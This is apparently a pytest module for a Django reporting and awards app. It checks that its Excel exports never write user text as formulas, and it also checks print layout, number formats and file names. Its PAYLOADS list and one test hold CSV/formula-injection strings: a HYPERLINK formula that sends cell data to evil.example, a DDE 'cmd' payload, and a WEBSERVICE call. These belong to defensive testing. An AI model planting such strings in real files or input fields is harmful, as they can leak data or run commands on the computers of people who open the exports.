"""Every Excel file thidua hands out, downloaded through its real page with the demo's
data (S1, S4, S5, the reviews and awards), after the text people write — titles, names,
units of measure, citations, a report's text answer — was made to look like formulas.

No cell of any sheet may be a formula (thidua writes none on purpose), every such text
must come back as the text it was, and every download keeps its name. The checks of print
set-up, frozen rows, dates, figures and totals read the same real files.
"""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.core.management import call_command
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from thidua.awards.models import Award, AwardDecision, AwardType, Person
from thidua.core import spreadsheets as sheets
from thidua.core.testing import loaded_once_per_module
from thidua.documents.models import Document
from thidua.emulation.models import Contest, ContestRound
from thidua.orgunits.models import OrgUnit
from thidua.plans.models import Plan, Task, TaskGroup
from thidua.reporting import selectors as reporting_selectors
from thidua.reporting.models import Indicator, Period, ReportForm, Submission
from thidua.reporting.models import Value as ReportValue
from thidua.reviews.models import Review

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]
# Where people write text that an Excel export shows.
TEXT_FIELDS = [
    (Plan, "title"),
    (TaskGroup, "title"),
    (Task, "title"),
    (OrgUnit, "name"),
    (ReportForm, "name"),
    (Indicator, "name"),
    (Indicator, "unit_of_measure"),
    (Period, "label"),
    (AwardType, "name"),
    (Person, "full_name"),
    (Person, "position"),
    (Award, "citation"),
    (AwardDecision, "authority_title"),
    (Document, "symbol"),
    (Document, "title"),
    (Review, "title"),
    (Contest, "name"),
    (ContestRound, "name"),
]
# Text of a finalised review's frozen snapshot (what its export shows).
SNAPSHOT_TEXT = {"name", "title", "recipient", "award", "decision", "granted_by", "symbol"}
# Every route that answers with an Excel file, walked below.
XLSX_ROUTES = {
    "plans:export_xlsx",
    "reporting:template",
    "reporting:units_template",
    "reporting:synthesis_xlsx",
    "reviews:xlsx",
    "awards:decision-xlsx",
}


def _load() -> dict[str, int]:
    call_command(
        "load_demo", only=["plans", "reporting", "emulation", "awards", "reviews"], verbosity=0
    )
    s4 = ReportForm.objects.get(code="hg-antq-annual")
    s5 = ReportForm.objects.get(code="antq-movement-national")
    return {
        "s1": Plan.objects.get(documents__symbol="92/KH-BCĐNQ").pk,
        "s4_2023": Period.objects.get(form=s4, year=2023).pk,
        "s4_2024": Period.objects.get(form=s4, year=2024).pk,
        "s5_2025": Period.objects.get(form=s5, year=2025).pk,
        "decision": AwardDecision.objects.get(document__symbol="902/QĐ-MTTQ").pk,
        "s4_review": Review.objects.get(title__startswith="Tổng kết 10 năm").pk,
    }


_demo = loaded_once_per_module(_load)


@pytest.fixture
def ids(db, _demo) -> dict[str, int]:
    return _demo


def _units(*codes: str) -> dict[str, OrgUnit]:
    return {u.code: u for u in OrgUnit.objects.filter(code__in=codes)}


def _inject() -> None:
    """Begin every text people write with one of the payloads (in turn)."""
    for n, (model, name) in enumerate(TEXT_FIELDS):
        payload = PAYLOADS[n % len(PAYLOADS)]
        size = model._meta.get_field(name).max_length or 10_000
        model.objects.update(**{name: Left(Concat(Value(f"{payload} "), F(name)), size)})
    for review in Review.objects.exclude(snapshot=None):
        review.snapshot = _poisoned(review.snapshot)
        Review.objects.filter(pk=review.pk).update(snapshot=review.snapshot)


def _poisoned(data: Any, key: str = "") -> Any:
    if isinstance(data, dict):
        return {k: _poisoned(v, k) for k, v in data.items()}
    if isinstance(data, list):
        return [_poisoned(v, key) for v in data]
    if isinstance(data, str) and key in SNAPSHOT_TEXT:
        return f"{PAYLOADS[len(data) % len(PAYLOADS)]} {data}"
    return data


def _downloads(ids: dict[str, int]) -> list[tuple[str, str]]:
    """(route, address) of every Excel download of the demo's objects."""
    u = _units("H-HG", "H-HG-D-DV", "H-HG-D-DV-01", "VN")
    s4_2023, s4_2024, s5 = ids["s4_2023"], ids["s4_2024"], ids["s5_2025"]
    reporter = Submission.objects.filter(period=s5).order_by("unit__code").first().unit
    found = [
        ("plans:export_xlsx", f"/plans/{p}/export.xlsx")
        for p in Plan.objects.values_list("pk", flat=True)
    ]
    found += [
        (
            "reporting:template",
            f"/reporting/periods/{s4_2023}/template.xlsx?unit={u['H-HG-D-DV-01'].pk}",
        ),
        ("reporting:template", f"/reporting/periods/{s5}/template.xlsx?unit={reporter.pk}"),
        (
            "reporting:units_template",
            f"/reporting/periods/{s4_2024}/units.xlsx?unit={u['H-HG-D-DV'].pk}",
        ),
        (
            "reporting:synthesis_xlsx",
            f"/reporting/periods/{s4_2023}/synthesis.xlsx?unit={u['H-HG'].pk}",
        ),
        ("reporting:synthesis_xlsx", f"/reporting/periods/{s5}/synthesis.xlsx?unit={u['VN'].pk}"),
    ]
    found += [
        ("reviews:xlsx", f"/reviews/{r}/export.xlsx")
        for r in Review.objects.values_list("pk", flat=True)
    ]
    found += [
        ("awards:decision-xlsx", f"/awards/decisions/{d}/list.xlsx")
        for d in AwardDecision.objects.values_list("pk", flat=True)
    ]
    return found


def _routes(resolver: URLResolver | None = None, namespace: str = "") -> set[str]:
    """The names of every route whose address ends in .xlsx."""
    found = set()
    for p in (resolver or get_resolver()).url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
            found |= _routes(p, ns)
        elif isinstance(p, URLPattern) and ".xlsx" in str(p.pattern):
            found.add(f"{namespace}{p.name}")
    return found


def _worksheets_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}


def test_every_excel_route_is_walked_here():
    assert _routes() == XLSX_ROUTES


def test_no_export_writes_a_formula_from_user_text(ids, client_for, superuser, monkeypatch):
    # A task's report answer in words, on the commune's current S4 report.
    lungcu = _units("H-HG-D-DV-01")["H-HG-D-DV-01"]
    current = Submission.objects.filter(period=ids["s4_2023"], unit=lungcu).latest("pk")
    ReportValue.objects.filter(pk=current.values.order_by("pk").first().pk).update(
        text='=WEBSERVICE("https://evil.example")', number=None
    )
    _inject()
    handed: list[Any] = []
    real_put = sheets.put

    def put(cell: Any, value: Any, kind: Any = "text") -> Any:
        handed.append(value)
        return real_put(cell, value, kind)

    monkeypatch.setattr(sheets, "put", put)
    c = client_for(superuser)
    walked, seen = set(), set()
    for route, address in _downloads(ids):
        r = c.get(address)
        assert r.status_code == 200, address
        assert r["Content-Type"] == sheets.XLSX, address
        r["Content-Disposition"].encode("ascii")
        for part, xml in _worksheets_xml(r.content).items():
            assert "<f>" not in xml and "<f " not in xml, f"{address}: a formula in {part}"
        wb = load_workbook(io.BytesIO(r.content))
        texts = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{address}: {ws.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
                        if cell.value.startswith(("=", "+", "-", "@", "\t")):
                            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        poisoned = {p for p in PAYLOADS if any(p in t for t in texts)}
        assert poisoned, f"{address}: no user text reached the file"
        seen |= poisoned
        walked.add(route)
    assert walked == XLSX_ROUTES
    assert seen == set(PAYLOADS)
    assert not [v for v in handed if isinstance(v, float)], "a figure went through float"


def test_a_text_answer_comes_back_from_the_template_as_the_text_it_was(ids, client_for, superuser):
    lungcu = _units("H-HG-D-DV-01")["H-HG-D-DV-01"]
    current = Submission.objects.filter(period=ids["s4_2023"], unit=lungcu).latest("pk")
    value = current.values.order_by("pk").first()
    ReportValue.objects.filter(pk=value.pk).update(text='=WEBSERVICE("x")', number=None)
    r = client_for(superuser).get(
        f"/reporting/periods/{ids['s4_2023']}/template.xlsx?unit={lungcu.pk}"
    )
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content))["Báo cáo"]
    cells = [row[4] for row in ws.iter_rows(min_row=6) if row[0].value == value.indicator.code]
    assert cells[0].value == '=WEBSERVICE("x")' and cells[0].data_type == "s"


# ---------------------------------------------------------------- the real files, read back


def _get(client, address: str):
    r = client.get(address)
    assert r.status_code == 200, address
    return load_workbook(io.BytesIO(r.content)), r


def test_the_s1_tasks_print_one_page_wide_with_the_header_repeated(ids, client_for, user_named):
    wb, _r = _get(client_for(user_named("bg.supervisor")), f"/plans/{ids['s1']}/export.xlsx")
    ws = wb.active
    assert ws.title == "Tasks"
    assert [c.value for c in ws[4]][:4] == ["No.", "Task group", "Task", "Lead unit"]
    assert ws.freeze_panes == "A5" and ws.print_title_rows == "$4:$4"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToHeight == 0
    rows = [r for r in ws.iter_rows(min_row=5) if isinstance(r[0].value, int)]
    deadlines = [r[6] for r in rows if r[6].value is not None]
    assert deadlines and all(c.is_date and c.number_format == "dd/mm/yyyy" for c in deadlines)
    assert all(r[9].number_format == '0"%"' for r in rows)
    assert all(r[2].alignment.wrap_text for r in rows)  # the task's title wraps
    last = ws[ws.max_row]
    assert last[2].value == "Total" and last[12].value == sum(r[12].value for r in rows)


def test_the_review_freezes_its_header_where_it_is_and_names_no_codes(ids, client_for, user_named):
    wb, _r = _get(client_for(user_named("hg.police")), f"/reviews/{ids['s4_review']}/export.xlsx")
    indicators = wb["Indicators"]
    assert indicators["A4"].value == "Indicator"  # title, area, blank row, header
    assert indicators.freeze_panes == "B5"  # the header row and the indicators' names
    assert indicators.print_title_rows == "$4:$4"
    assert indicators.page_setup.orientation == "landscape"  # eleven years wide
    tasks = wb["Tasks"]
    assert tasks["A4"].value == "Year" and tasks.freeze_panes == "A5"
    assert tasks.cell(row=5, column=1).number_format == "0"  # 2013, never 2,013
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    codes = set(Indicator.objects.values_list("code", flat=True)) | set(
        AwardType.objects.values_list("code", flat=True)
    )
    assert not texts & codes
    awards = wb["Commendations"]
    total = awards[awards.max_row]
    assert total[0].value == "Total" and total[0].font.b
    occasion = wb["On this occasion"]
    day = occasion.cell(row=5, column=4)
    assert day.is_date and day.number_format == "dd/mm/yyyy"


def test_the_synthesis_keeps_its_figures_exact_and_totals_each_column(ids, client_for, superuser):
    vn = _units("VN")["VN"]
    period = Period.objects.get(pk=ids["s5_2025"])
    wb, r = _get(
        client_for(superuser), f"/reporting/periods/{period.pk}/synthesis.xlsx?unit={vn.pk}"
    )
    assert wb.sheetnames == ["Synthesis", "By unit"]
    by_unit = wb["By unit"]
    # The form, the unit, the period, a blank row, the header row: frozen below it.
    assert by_unit.freeze_panes == "B6" and by_unit.print_title_rows == "$5:$5"
    table = reporting_selectors.synthesis_table(user=superuser, period=period, unit=vn)
    last = by_unit.max_row
    assert by_unit.cell(row=last, column=1).value == "Total"
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        xml = z.read("xl/worksheets/sheet2.xml").decode()
    fractions = 0
    for col, it in enumerate(table.items, start=2):
        want = sheets.figure(table.total[(it.indicator_id, "")])
        coordinate = by_unit.cell(row=last, column=col).coordinate
        written = re.search(rf'<c r="{coordinate}"[^>]*><v>([^<]*)</v>', xml).group(1)
        assert Decimal(written) == want and written == str(want)  # never 84.07999999
        fractions += isinstance(want, Decimal)
        assert by_unit.cell(row=last, column=col).number_format.startswith("#,##0")
    assert fractions  # the average rate is a fraction


def test_every_download_keeps_its_vietnamese_name(ids, client_for, user_named):
    c = client_for(user_named("hg.front"))
    for address, ext in (("list.xlsx", "xlsx"), ("decision.docx", "docx")):
        r = c.get(f"/awards/decisions/{ids['decision']}/{address}")
        assert r.status_code == 200
        assert r["Content-Disposition"] == (
            f"attachment; filename=\"902-QD-MTTQ.{ext}\"; filename*=UTF-8''902-Q%C4%90-MTTQ.{ext}"
        )


def test_no_module_writes_a_workbook_or_a_download_header_of_its_own():
    """One home each: core/spreadsheets.py builds workbooks, core/downloads.py names files."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts:
            continue
        text = path.read_text()
        rel = path.relative_to(root).as_posix()
        if re.search(r"\bWorkbook\(", text) and rel != "core/spreadsheets.py":
            offenders.append(rel)
        if 'Content-Disposition"]' in text and rel != "core/downloads.py":
            offenders.append(rel)
        if "FileResponse(" in text and rel != "core/downloads.py":
            offenders.append(rel)
    assert not offenders
